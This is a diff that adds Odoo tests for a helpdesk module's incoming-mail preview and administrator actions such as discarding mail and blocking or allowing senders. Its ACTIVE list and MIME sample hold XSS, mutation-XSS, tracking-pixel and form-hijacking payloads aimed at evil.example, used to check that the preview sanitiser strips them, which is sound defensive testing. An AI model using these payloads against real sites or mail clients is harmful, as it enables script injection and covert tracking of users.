@@ -1,0 +1,238 @@
+import re
+from base64 import b64decode
+
+from lxml import html
+from odoo.exceptions import UserError, ValidationError
+from odoo.tests import tagged
+
+from .kept_mail import KeptMailCase
+
+MAIL, BLOCK = "helpdesk_lite.mail", "helpdesk_lite.mail.block"
+PIXEL = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
+RELATED = """\
+From: Zoe Quill <zoe@quill.example>
+Subject: Photos
+MIME-Version: 1.0
+Content-Type: multipart/related; boundary="x"
+
+--x
+Content-Type: text/html; charset=utf-8
+
+<p>Look: <img src="cid:photo" alt="Lamp"><img src="https://evil.example/seen.gif?id=7"><img src="cid:drawing"></p>
+--x
+Content-Type: image/gif; name="photo.gif"
+Content-ID: <photo>
+Content-Transfer-Encoding: base64
+Content-Disposition: inline; filename="photo.gif"
+
+{pixel}
+--x
+Content-Type: image/gif; name="drawing.gif"
+Content-ID: <drawing>
+Content-Disposition: inline; filename="drawing.gif"
+
+<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
+--x--
+"""
+# what a browser would fetch, run, follow or lay over the page
+ACTIVE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="//evil.example/a.gif">',
+    '<img srcset="https://evil.example/a.gif 1x">',
+    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+    "<svg><script>alert(1)</script><image href='https://evil.example/a.gif'/></svg>",
+    "<math><mtext><style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></style></mtext></math>",
+    '<div style="background: url(https://evil.example/a.gif); position: fixed; inset: 0">over all</div>',
+    "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
+    '<link rel="stylesheet" href="https://evil.example/a.css">',
+    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="https://evil.example/" ping="https://evil.example/ping" target="_top">click</a>',
+    '<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">OK</button></form>',
+    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a.swf">',
+    '<video poster="https://evil.example/a.gif"><source src="https://evil.example/a.mp4"></video>',
+    '<table background="https://evil.example/a.gif"><tr><td background="https://evil.example/b.gif">x</td></tr></table>',
+    '<p class="o_dialog" id="wrapwrap" onclick="alert(1)" tabindex="0" autofocus onfocus="alert(1)">x</p>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<x:y xmlns:x='urn:x' onload='alert(1)'>x</x:y>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<!--[if mso]><img src='https://evil.example/a.gif'><![endif]-->",
+)
+HARMLESS = {"title", "colspan", "rowspan", "dir", "lang", "start"}
+
+
+@tagged("post_install", "-at_install")
+class TestPreview(KeptMailCase):
+    """What administrators see of a mail that comes from a stranger, and may be the one that broke the reading."""
+
+    def preview(self, source=None, **values):
+        mail = self.keep(source=source, **values)
+        return self.call(self.manager, MAIL, "read", mail.ids, ["preview", "headers"])[0]
+
+    def test_nothing_is_fetched_run_or_followed(self):
+        for source in (*ACTIVE, "".join(ACTIVE)):
+            with self.subTest(source=source):
+                shown = str(self.preview(body=f"<p>Before</p>{source}<p>After</p>")["preview"])
+                self.assertIn("Before", shown)
+                self.assertIn("After", shown)
+                for element in html.fragment_fromstring(shown, create_parent="div").iter():
+                    self.assertIn(element.tag, {"div", "p", "u", "pre", "table", "tbody", "tr", "td"})
+                    self.assertLessEqual(set(element.attrib), HARMLESS)
+
+    def test_images_of_the_mail_itself_are_shown(self):
+        shown = str(self.preview(RELATED.format(pixel=PIXEL).encode())["preview"])
+        self.assertEqual(re.findall(r'src="([^"]*)"', shown), [f"data:image/gif;base64,{PIXEL}"])
+        self.assertNotIn("evil.example", shown)
+        self.assertNotIn("svg", shown, "a file that says it is a GIF and is none")
+        self.assertIn("photo.gif", shown)
+
+    def test_mails_that_cannot_be_read_are_shown_as_text(self):
+        for source in (
+            b"",
+            b"no mail at all",
+            b"\x00\x01\xff\xfe" * 50,
+            b"Subject: x\n\n" + b"<div>" * 5000 + b"deep",
+            b"Content-Type: text/plain; charset=hex\n\nwords",
+            b"Content-Type: multipart/mixed; boundary=\n\nwords",
+            b"Content-Transfer-Encoding: base64\n\n!!!!",
+        ):
+            with self.subTest(source=source[:60]):
+                mail = self.keep(source=source or b"\n")
+                values = self.call(self.manager, MAIL, "read", mail.ids, ["preview", "headers"])[0]
+                self.assertIsInstance(values["preview"], str)
+                if b"words" in source or b"mail at all" in source:
+                    self.assertTrue("words" in values["preview"] or "mail at all" in values["headers"])
+
+    def test_headers_are_shown_as_they_came(self):
+        values = self.preview(b"Received: from a by b\r\nX-Odd: \xe9\r\n\r\nThe text\r\n\r\nX-Not: a header")
+        self.assertIn("Received: from a by b", values["headers"])
+        self.assertNotIn("The text", values["headers"])
+        self.assertNotIn("X-Not", values["headers"])
+
+    def test_preview_is_short_for_a_huge_mail(self):
+        shown = str(self.preview(body="<p>word</p>" * 200_000)["preview"])
+        self.assertLess(len(shown), 500_000)
+
+
+@tagged("post_install", "-at_install")
+class TestVerbs(KeptMailCase):
+    """What administrators do with mails, one or many at once, and what they are told."""
+
+    def act(self, verb, mails, **values):
+        """Choose a verb, and answer its pop-up as the web client does."""
+        action = self.call(self.manager, MAIL, verb, mails.ids)
+        if action.get("res_model", "").startswith("helpdesk_lite.mail.") and not action.get("res_id"):
+            wizard = self.call(self.manager, action["res_model"], "create", [values], context=action["context"])
+            action = self.call(self.manager, action["res_model"], self.button_of(action["res_model"]), wizard)
+        self.env.invalidate_all()
+        return action
+
+    def button_of(self, model):
+        return {
+            "helpdesk_lite.mail.place": "action_place",
+            "helpdesk_lite.mail.discard": "action_discard",
+            "helpdesk_lite.mail.block.sender": "action_block",
+        }[model]
+
+    def results_of(self, action):
+        """What the list of results says: dict of mail to tuple (whether it was done, sentence)."""
+        self.assertEqual(action["res_model"], "helpdesk_lite.mail.result")
+        lines = self.env["helpdesk_lite.mail.result"].browse(action["res_id"]).line_ids
+        read = self.call(self.manager, lines._name, "read", lines.ids, ["mail_id", "is_done", "text"])
+        return {line["mail_id"][0]: (line["is_done"], line["text"]) for line in read}
+
+    # ------------------------------------------------------------
+    # DISCARDING
+    # ------------------------------------------------------------
+
+    def test_a_mail_is_discarded_with_a_reason_and_stays_readable(self):
+        mail = self.keep("failed")
+        action = self.act("action_discard", mail, reason="Advertising")
+        self.assertEqual(action["params"]["type"], "success")
+        self.assertEqual((mail.state, mail.discard_reason, mail.next_try), ("discarded", "Advertising", False))
+        self.assertTrue(mail._get_source())
+
+    def test_discarding_takes_a_reason(self):
+        mail = self.keep("failed")
+        for reason in ({}, {"reason": ""}, {"reason": "  "}):
+            with self.subTest(reason=reason), self.assertRaises(UserError):
+                self.act("action_discard", mail, **reason)
+        self.assertEqual(mail.state, "failed")
+
+    def test_of_a_selection_each_mail_has_its_result(self):
+        failed, parked, done = self.keep("failed"), self.keep("parked", reason="loop"), self.keep("done")
+        results = self.results_of(self.act("action_discard", failed + parked + done, reason="Advertising"))
+        self.assertEqual(
+            {mail: is_done for mail, (is_done, _text) in results.items()}, {failed.id: True, parked.id: True, done.id: False}
+        )
+        self.assertEqual((failed.state, parked.state, done.state), ("discarded", "discarded", "done"))
+
+    # ------------------------------------------------------------
+    # SENDERS
+    # ------------------------------------------------------------
+
+    def test_a_sender_is_blocked_and_unblocked(self):
+        mail = self.keep("failed", email_from="Spam <SPAM@Offers.example>")
+        self.act("action_block_sender", mail, kind="address")
+        block = self.env[BLOCK].search([("name", "=", "spam@offers.example")])
+        self.assertEqual((block.create_uid, block.company_id), (self.manager, self.company))
+        self.assertTrue(self.env[BLOCK]._is_blocked("spam@offers.example", self.company))
+        self.assertFalse(self.env[BLOCK]._is_blocked("other@offers.example", self.company))
+        self.assertFalse(self.env[BLOCK]._is_blocked("spam@offers.example", self.other_company))
+        self.call(self.manager, BLOCK, "action_unblock", block.ids)
+        self.assertFalse(self.env[BLOCK]._is_blocked("spam@offers.example", self.company))
+        self.act("action_block_sender", mail, kind="address")
+        self.assertTrue(self.env[BLOCK]._is_blocked("spam@offers.example", self.company), "blocked anew")
+
+    def test_a_domain_is_blocked(self):
+        self.act("action_block_sender", self.keep("failed", email_from="spam@offers.example"), kind="domain")
+        for address, expected in (
+            ("other@offers.example", True),
+            ("x@sub.offers.example", False),
+            ("x@myoffers.example", False),
+            ("offers.example@x.example", False),
+        ):
+            self.assertEqual(self.env[BLOCK]._is_blocked(address, self.company), expected, address)
+
+    def test_blocking_says_for_each_mail_what_could_not_be_done(self):
+        domain = self.team.alias_domain_id.name or self.env["mail.alias.domain"].create({"name": "own.example"}).name
+        first, again = self.keep(email_from="a@offers.example"), self.keep(email_from="A <a@offers.example>")
+        nobody, own = self.keep(email_from=False), self.keep(email_from=f"colleague@{domain}")
+        results = self.results_of(self.act("action_block_sender", first + again + nobody + own, kind="domain"))
+        done = {mail: is_done for mail, (is_done, _text) in results.items()}
+        self.assertEqual(done, {first.id: True, again.id: True, nobody.id: False, own.id: False})
+        self.assertEqual(self.env[BLOCK].search([]).mapped("name"), ["@offers.example"])
+        with self.assertRaises(ValidationError):
+            self.call(self.manager, BLOCK, "create", [{"name": f"@{domain}"}])
+        self.assertFalse(self.act("action_block_sender", first, kind="domain")["params"]["type"] == "success")
+
+    def test_a_sender_is_allowed(self):
+        mail, nobody = self.keep(email_from="Shop <orders@shop.example>"), self.keep(email_from="")
+        results = self.results_of(self.act("action_allow_sender", mail + nobody))
+        self.assertEqual({key: done for key, (done, _text) in results.items()}, {mail.id: True, nobody.id: False})
+        allowed = self.env["mail.gateway.allowed"].search([("email_normalized", "=", "orders@shop.example")])
+        self.assertEqual(len(allowed), 1)
+        self.act("action_allow_sender", mail)
+        self.assertEqual(self.env["mail.gateway.allowed"].search_count([("email_normalized", "=", "orders@shop.example")]), 1)
+
+    # ------------------------------------------------------------
+    # DOWNLOAD
+    # ------------------------------------------------------------
+
+    def test_download_of_too_much_is_refused(self):
+        mails = self.keep() + self.keep()
+        self.assertEqual(self.act("action_download", mails)["url"], f"/helpdesk/incoming-mail/{mails[0].id},{mails[1].id}")
+        mails.size = 80_000_000
+        with self.assertRaises(UserError):
+            self.act("action_download", mails)
+
+    def test_source_is_stored_as_it_came(self):
+        source = b"Subject: x\r\n\r\n\x00\xff\r\n"
+        mail = self.keep(source=source)
+        self.env.invalidate_all()
+        self.assertEqual(mail._get_source(), source)
+        self.assertEqual(b64decode(self.call(self.manager, MAIL, "read", mail.ids, ["source"])[0]["source"]), source)
